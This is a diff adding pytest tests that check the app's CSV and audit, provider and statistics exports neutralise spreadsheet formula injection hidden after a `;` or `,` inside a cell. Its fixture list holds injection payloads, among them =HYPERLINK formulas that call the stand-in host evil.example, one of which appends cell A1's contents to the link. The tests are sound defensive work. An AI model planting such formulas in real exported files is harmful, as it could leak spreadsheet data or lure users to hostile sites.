@@ -12,7 +12,7 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
-from datetime import date
+from datetime import UTC, date, datetime
 from decimal import Decimal
 
 import pytest
@@ -25,7 +25,7 @@ from app.models.audit import AuditKind
 from app.models.enums import Role
 from app.services import aid, audit, provider_csv, providers
 from app.services.audit import AuditFilter
-from app.services.spreadsheet_cells import neutralise, restore
+from app.services.spreadsheet_cells import CsvWriter, neutralise, restore
 from app.services.statistics import PeriodStatistics, period_statistics
 from app.services.statistics_export import Labels, to_csv, to_xlsx
 from tests.conftest import make_user
@@ -216,3 +216,109 @@ def test_a_text_that_would_run_gets_a_quote_and_nothing_else_does(payload: str) 
 @pytest.mark.parametrize("text", [*PAYLOADS, "'=x", "''-1", "Mari", "", "'", "'Tavaline", "+372 5123 4567"])
 def test_restore_gives_back_what_was_neutralised(text: str) -> None:
     assert restore(neutralise(text)) == text
+
+
+# --- a `;` or `,` inside a cell (issue 10 probe, point 5) ---------------------------------------------------------
+# Estonian Excel splits a CSV file on `;` (its list separator), and a spreadsheet told to ignore quotes splits on
+# every `,`: a cell's text after either then begins a cell of its own. The parts after them are neutralised too.
+INNER = (
+    'kordushelistaja;=HYPERLINK("http://evil.example";"ava");',
+    'Abi OÜ;=HYPERLINK("http://evil.example/?"&A1;"klikk")',
+    "Kask FIE;@SUM(1+1)",
+    "Tamm,+1+1",
+    'x;"=1+1"',
+    "Lepp;\t=1",
+    "a;-1;;+2",
+)
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Every cell that begins like a formula when the file is read with `,` or with `;` between cells."""
+    found = []
+    for delimiter in (",", ";"):
+        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
+            found += [cell for cell in row if cell[:1] in tuple("=+-@\t\r")]
+        for line in text.removeprefix("\ufeff").splitlines():  # and as a reader that ignores quotes splits it
+            found += [cell for cell in line.split(delimiter) if cell.lstrip('"')[:1] in tuple("=+-@\t\r")]
+    return found
+
+
+@pytest.mark.parametrize("text", INNER)
+def test_a_part_after_a_semicolon_or_comma_that_would_run_gets_a_quote(text: str) -> None:
+    out = io.StringIO()
+    CsvWriter(out).writerow(["1", text, 2])
+    assert _formula_cells(out.getvalue()) == []
+    assert restore(neutralise(text)) == text  # the provider import reads the program's own files back as typed
+
+
+def test_inner_quotes_are_exactly_where_needed() -> None:
+    assert neutralise("Kask FIE;@SUM(1+1)") == "Kask FIE;'@SUM(1+1)"
+    assert neutralise("=a;=b,=c") == "'=a;'=b,'=c"
+    assert neutralise("Tamm, Mari; Kask") == "Tamm, Mari; Kask"  # a space after the separator: nothing runs
+    assert neutralise("1,5;2") == "1,5;2"
+    assert neutralise("x;'=1") == "x;''=1"
+
+
+def test_audit_export_neutralises_a_formula_after_a_semicolon_in_a_reason(any_store: Store) -> None:
+    """A break-the-glass reason is typed by any counsellor and read by a shift lead in the audit CSV."""
+    from app.services import access
+    from app.services.contacts import ContactInput, save_contact
+
+    mari = make_user(any_store, Role.COUNSELLOR, "mari")
+    jaan = make_user(any_store, Role.COUNSELLOR, "jaan")
+    lead = make_user(any_store, Role.SHIFT_LEAD, "tiina")
+    with any_store.unit_of_work() as uow:
+        saved = save_contact(
+            uow,
+            mari,
+            ContactInput(started_at=datetime(2026, 3, 30, 20, tzinfo=UTC), identified=True, full_name="Mari Kask"),
+        )
+    assert saved.person_id is not None
+    with any_store.unit_of_work() as uow:
+        access.grant_access(uow, jaan, saved.person_id, INNER[0])
+    with any_store.unit_of_work() as uow:
+        data = audit.export_csv(uow, lead, AuditFilter(kind=AuditKind.ACCESS_OVERRIDE)).decode("utf-8")
+
+    assert "HYPERLINK" in data
+    assert _formula_cells(data) == []
+
+
+def test_provider_exports_neutralise_a_formula_after_a_semicolon_in_a_name(store: Store) -> None:
+    admin = make_user(store, Role.ADMINISTRATOR, "admin")
+    mari = make_user(store, Role.COUNSELLOR, "mari")
+    lead = make_user(store, Role.SHIFT_LEAD, "tiina")
+    with store.unit_of_work() as uow:
+        for name in INNER[1:3]:
+            providers.create_provider(uow, admin, person_input(name, address="Pikk 1;-2. korrus"), today=TODAY)
+        uow.commit()
+    with store.unit_of_work() as uow:
+        before = providers.list_providers(uow, admin)
+        register = provider_csv.export_csv(uow, admin)
+    assert "HYPERLINK" in register
+    assert "SUM" in register
+    assert _formula_cells(register) == []
+    with store.unit_of_work() as uow:  # and the import gives back the names as typed
+        result = provider_csv.import_csv(uow, admin, register.encode(provider_csv.ENCODING), today=TODAY)
+        uow.commit()
+    assert (result.updated, result.errors) == (len(before), [])
+    with store.unit_of_work() as uow:
+        assert [(p.name, p.address) for p in providers.list_providers(uow, admin)] == [
+            (p.name, p.address) for p in before
+        ]
+
+    provider = add_provider(store)
+    assert provider.id is not None
+    contact = identified_contact(store, mari, "Klient;=1+1", "")
+    with store.unit_of_work() as uow:
+        aid.decide(uow, mari, decision(contact.id, provider.id, date(2026, 4, 2)))
+    with store.unit_of_work() as uow:
+        files = aid.export_for_provider(uow, lead, provider.id, date(2026, 4, 1), date(2026, 4, 30))
+    assert "Klient;" in files.with_limit
+    assert _formula_cells(files.with_limit) == []
+
+
+def test_statistics_csv_neutralises_a_formula_after_a_semicolon_in_a_topic(topic_stats: PeriodStatistics) -> None:
+    tables = to_csv(topic_stats, _labels_with({"domestic_violence": "Lein;=1+1", "sexual_violence": "Abi,@x"}))
+
+    assert "Lein;" in tables["topic"]
+    assert all(_formula_cells(text) == [] for text in tables.values())
